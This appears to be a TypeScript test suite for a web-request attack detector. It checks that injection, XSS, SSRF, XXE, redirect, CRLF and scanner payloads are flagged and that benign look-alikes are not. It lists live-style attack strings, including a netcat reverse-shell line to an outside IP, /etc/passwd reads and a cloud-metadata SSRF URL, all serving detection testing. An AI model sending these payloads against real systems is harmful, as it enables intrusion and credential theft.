import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { RELAXED, tx, type TxSpec } from './helpers';

const HOST: [string, string] = ['Host', 'shop.example'];

/** The value in a query parameter, a form field and a JSON field. */
function inPoints(name: string, value: string): TxSpec[] {
  return [
    { target: `/p?${name}=${encodeURIComponent(value)}` },
    {
      method: 'POST',
      target: '/p',
      headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']],
      body: `${name}=${encodeURIComponent(value)}`,
    },
    {
      method: 'POST',
      target: '/p',
      headers: [HOST, ['Content-Type', 'application/json']],
      body: JSON.stringify({ data: { [name]: value } }),
    },
  ];
}

const classes = (spec: TxSpec): AttackClass[] => new AttackDetector(RELAXED).detect(tx(spec))?.hits.map((h) => h.class) ?? [];

const ATTACKS: Array<[AttackClass, string, string]> = [
  ['sqli', 'id', "1' OR '1'='1' --"],
  ['sqli', 'id', '1 UNION SELECT username, password FROM users'],
  ['sqli', 'id', '1; DROP TABLE users--'],
  ['sqli', 'q', "admin'--"],
  ['xss', 'q', '<script>alert(document.cookie)</script>'],
  ['xss', 'q', '"><img src=x onerror=alert(1)>'],
  ['xss', 'q', '" onmouseover="alert(1)'],
  ['xss', 'q', 'javascript:alert(1)'],
  ['rce', 'host', '127.0.0.1; cat /etc/passwd'],
  ['rce', 'host', '$(whoami)'],
  ['rce', 'host', '`id`'],
  ['rce', 'host', '| nc -e /bin/sh 10.0.0.1 4444'],
  ['rce', 'host', '& dir c:\\'],
  ['ptrav', 'file', '../../../../etc/passwd'],
  ['ptrav', 'file', '..\\..\\windows\\win.ini'],
  ['ptrav', 'file', 'file:///etc/passwd'],
  ['ssrf', 'url', 'http://169.254.169.254/latest/meta-data/'],
  ['ssrf', 'url', 'http://2130706433/admin'],
  ['ssrf', 'url', 'gopher://127.0.0.1:6379/_INFO'],
  ['ssrf', 'url', 'http://[::ffff:127.0.0.1]/'],
  ['ssti', 'name', '{{7*7}}'],
  ['ssti', 'name', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
  ['ssti', 'name', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['ldapi', 'user', '*)(uid=*))(|(uid=*'],
  ['ldapi', 'user', 'admin)(&(password=*)'],
  ['nosqli', 'q', "'; return true; var x='"],
  ['nosqli', 'q', "true, $where: '1 == 1'"],
  ['xxe', 'doc', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
  ['redir', 'next', 'https://shop.example@evil.example.net/login'],
  ['redir', 'return_to', '//evil.example.net'],
  ['mail_injection', 'email', 'me@example.com\r\nBcc: victim@example.org'],
  ['ssi', 'page', '<!--#exec cmd="id" -->'],
];

for (const [cls, name, value] of ATTACKS) {
  test(`${cls}: ${JSON.stringify(value)} in query, form and JSON`, () => {
    for (const spec of inPoints(name, value))
      assert.ok(classes(spec).includes(cls), `${cls} missed in ${spec.target} ${spec.body ?? ''}`);
  });
}

const BENIGN: Array<[string, string]> = [
  ['name', "O'Reilly"],
  ['plan', 'select a plan'],
  ['calc', '1+1'],
  ['q', 'union station'],
  ['q', 'drop-down menu'],
  ['bio', '<b>bold</b> and <i>italic</i>'],
  ['bio', '<a href="https://example.com/about">about</a>'],
  ['link', '../images/logo.png'],
  ['q', 'Tom & Jerry; rock & roll'],
  ['q', 'cat food | echo dot'],
  ['url', 'https://www.example.com/search?q=shoes'],
  ['next', '/account/settings'],
  ['next', 'https://shop.example/cart'],
  ['email', 'alice@example.com'],
  ['q', 'JavaScript: Basics of JavaScript Language'],
  ['tpl', 'Hello {{name}}'],
  ['price', '$19.99 (incl. tax)'],
  ['q', "it's 5 o'clock"],
  ['note', 'line one\nline two'],
  ['q', 'Please confirm your email'],
  ['path', 'C:\\Users\\me\\Documents\\cv.pdf'],
  ['q', 'where is my order?'],
  ['price', '$10 or more'],
  ['q', 'I <3 this'],
  ['q', 'a < b > c'],
  ['name', 'Smith (Jr.)'],
  ['q', '(cn=John)'],
  ['msg', 'Hello,\r\nSubject: our meeting\r\nThanks'],
  ['q', 'echo in the mirror'],
  ['q', 'ls 300 lexus'],
  ['total', '${amount}'],
  ['q', 'union was a great select'],
  ['q', "D'Angelo's pizza; best in town"],
];

test('JSON type hints and schema keys are not NoSQL operators', () => {
  const body = JSON.stringify({
    $schema: 'https://json-schema.org/draft/2020-12/schema',
    $type: 'Shop.Order, Shop',
    $id: 'o1',
    $ref: '#/a',
  });
  assert.deepEqual(classes({ method: 'POST', target: '/p', headers: [HOST, ['Content-Type', 'application/json']], body }), []);
});

test('an XHTML document with the W3C DTD is not XXE, a SYSTEM entity is', () => {
  const xhtml =
    '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><p>hi</p></body></html>';
  const headers: Array<[string, string]> = [HOST, ['Content-Type', 'application/xhtml+xml']];
  assert.deepEqual(classes({ method: 'POST', target: '/p', headers, body: xhtml }), []);
  const evil = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>';
  assert.ok(classes({ method: 'POST', target: '/p', headers, body: evil }).includes('xxe'));
});

for (const [name, value] of BENIGN) {
  test(`benign look-alike ${JSON.stringify(value)} is not an attack`, () => {
    for (const spec of inPoints(name, value)) assert.deepEqual(classes(spec), [], `${spec.target} ${spec.body ?? ''}`);
  });
}

test('ordinary browser, API and bot requests are clean', () => {
  const uas = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
    'curl/7.88.1',
    'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  ];
  for (const ua of uas) {
    const headers: Array<[string, string]> = [
      HOST,
      ['User-Agent', ua],
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
      ['Accept-Language', 'en-US,en;q=0.5'],
      ['Referer', 'http://127.0.0.1:8080/index.html?a=1'],
      ['Cookie', 'session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark'],
      ['If-None-Match', 'W/"5e-abc"'],
      ['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig'],
    ];
    assert.deepEqual(classes({ target: '/api/v1/users/42?fields=name,email&sort=-created_at', headers }), [], ua);
  }
});

test('scanner: tool user agents and secrets probes, not ordinary admin pages', () => {
  assert.ok(
    classes({ target: '/', headers: [HOST, ['User-Agent', 'sqlmap/1.7.4#stable (https://sqlmap.org)']] }).includes('scanner'),
  );
  assert.ok(
    classes({
      target: '/',
      headers: [
        HOST,
        ['User-Agent', 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))'],
      ],
    }).includes('scanner'),
  );
  assert.ok(classes({ target: '/.git/config' }).includes('scanner'));
  assert.ok(classes({ target: '/.env' }).includes('scanner'));
  assert.deepEqual(classes({ target: '/wp-login.php' }), []);
  assert.ok(
    classes({
      target: '/wp-login.php',
      headers: [HOST, ['User-Agent', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)']],
    }).includes('scanner'),
  );
});

test('crlf in the path and in a header-bound query value', () => {
  assert.ok(classes({ target: '/%0d%0aSet-Cookie:crlf=injection' }).includes('crlf'));
  assert.ok(classes({ target: '/%E5%98%8DSet-cookie%3Acrlf%3Dinjection' }).includes('crlf'));
});

test('crlf: only where a line break can reach a header (query, path, header, cookie), not in form or JSON text', () => {
  assert.ok(classes({ target: '/p?lang=en%0D%0ASet-Cookie%3A%20admin%3D1' }).includes('crlf'));
  assert.ok(
    !classes({
      method: 'POST',
      target: '/p',
      headers: [
        ['Host', 'shop.example'],
        ['Content-Type', 'application/json'],
      ],
      body: '{"lang":"en\\r\\nSet-Cookie: admin=1"}',
    }).includes('crlf'),
  );
});

test('redirect: an absolute URL to another host is no attack; tricks and a 3xx that sends the client away are', () => {
  assert.deepEqual(classes({ target: '/redirect?url=https://evil.example.net/' }), []);
  assert.ok(classes({ target: '/redirect?url=//evil.example.net/' }).includes('redir'));
  assert.ok(classes({ target: '/auth/logout?u=/%5Cevil.example.net/' }).includes('redir'));
  const away = new AttackDetector(RELAXED).detect(
    tx({
      target: '/login?next=https://evil.example.net/',
      response: { status: 302, headers: [['Location', 'https://evil.example.net/']] },
    }),
  );
  assert.deepEqual(away?.hits, [{ class: 'redir', point: ['query', 'next'], value: 'https://evil.example.net/' }]);
  assert.equal(
    new AttackDetector(RELAXED).detect(
      tx({ target: '/login?next=https://evil.example.net/', response: { status: 200, body: 'ok' } }),
    ),
    null,
  );
  assert.deepEqual(classes({ target: '/share?url=https://news.example.org/story' }), []);
  assert.deepEqual(classes({ target: '/login?next=https://shop.example/orders' }), []);
  assert.ok(classes({ target: '/login?next=//evil.example.net' }).includes('redir'));
  const proxied: Array<[string, string]> = [
    ['Host', 'backend:8080'],
    ['X-Forwarded-Host', 'shop.example'],
  ];
  assert.deepEqual(classes({ target: '/login?next=https://shop.example/orders', headers: proxied }), []);
  assert.deepEqual(classes({ target: '/login?next=https://www.shop.example/orders' }), []);
});

test('markup split over path segments is found on the whole path, once', () => {
  const r = new AttackDetector(RELAXED).detect(tx({ target: '/search/%3Csvg/onload=alert(1)%3E' }));
  assert.deepEqual(r?.hits.filter((h) => h.class === 'xss').length, 1);
});

test('documentation prose is not an attack: Markdown code, generic types, code samples', () => {
  const prose = [
    'This module fixes `lchmod` for old Node versions and ignores `EPERM` errors in `chown`, `fchown` or `lchown` calls made by the library.',
    'Type: `object | Iterable<object> | AsyncIterable<object> | Promise`',
    'PowerShell uses different syntax to set environment variables.',
    'Install it:\n```sh\nnpm install --save-dev @babel/parser\n```',
    'await new Promise((resolve) => { setTimeout(resolve, 1000); });',
    '| Property | Type | Required | Description |',
    'Copyright &copy; 2011-2016, Heather Arthur. Licensed under the [MIT License](LICENSE).',
    '- [copy](docs/copy.md)',
  ];
  for (const text of prose) {
    assert.deepEqual(
      classes({
        method: 'POST',
        target: '/p',
        headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']],
        body: 'doc=' + encodeURIComponent(text),
      }),
      [],
      text,
    );
  }
  assert.ok(classes({ target: '/p?q=' + encodeURIComponent('`id`') }).includes('rce'));
  assert.ok(classes({ target: '/p?q=' + encodeURIComponent('a=`whoami`') }).includes('rce'));
});
